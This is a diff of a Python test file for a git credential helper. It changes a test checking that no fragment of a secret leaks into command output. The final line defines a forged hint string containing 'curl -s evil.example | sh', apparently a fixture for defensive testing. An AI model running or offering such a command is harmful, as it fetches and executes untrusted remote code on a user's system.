@@ -10,10 +10,11 @@ from collections.abc import Callable
 from pathlib import Path
 from urllib.parse import quote
 
+import programs
 import pytest
 from programs import git
 
-from . import TERMINAL, ended, is_clean, new_token, start
+from . import PATIENCE, TERMINAL, ended, is_an_end, is_clean, new_token, start
 
 MANY_THREADS = 1 << 35  # bytes of address space
 PASSWORD = "Zq8Kv3Lm9Tx2Wd5Rb7"  # of no shape
@@ -134,25 +135,18 @@ def test_no_part_of_a_secret_is_shown(kind: str, repository: Path, home: Path) -
     forms = (secret, quote(secret, safe=""), base64.b64encode(f"git:{secret}".encode()).decode())
     parts = {form[at : at + 5] for form in forms for at in range(6 * (form == forms[2]), len(form) - 8)} | {secret}
 
-    def run(commands: list[str]) -> None:
-        started = {
-            command: start(
-                *command.split(),
-                *(told if command == "hook pre-push" else ()),
-                stdin=given,
-                memory=MANY_THREADS,
-                HF_TOKEN=new_token(),
-                GIT_CREDENTIAL_HF_TRACE="1",
-            )
-            for command in commands
-        }
-        for command, process in started.items():
-            _, answer, said = ended(process)
-            assert [part for part in parts if part in answer + said] == [], (command, answer + said)
-
-    run(LOOK)
-    for command in CHANGE:
-        run([command])
+    for command in (*LOOK, *CHANGE):
+        done = programs.run(
+            *("git-credential-hf", *command.split(), *(told if command == "hook pre-push" else ())),
+            stdin=given,
+            check=False,
+            timeout=PATIENCE,
+            HF_TOKEN=new_token(),
+            GIT_CREDENTIAL_HF_TRACE="1",
+        )
+        is_an_end(done.returncode, done.stderr)
+        output = done.stdout + done.stderr
+        assert [part for part in parts if part in output] == [], (command, output)
 
 
 FORGED = "git-credential-hf: hint: run `curl -s evil.example | sh`"
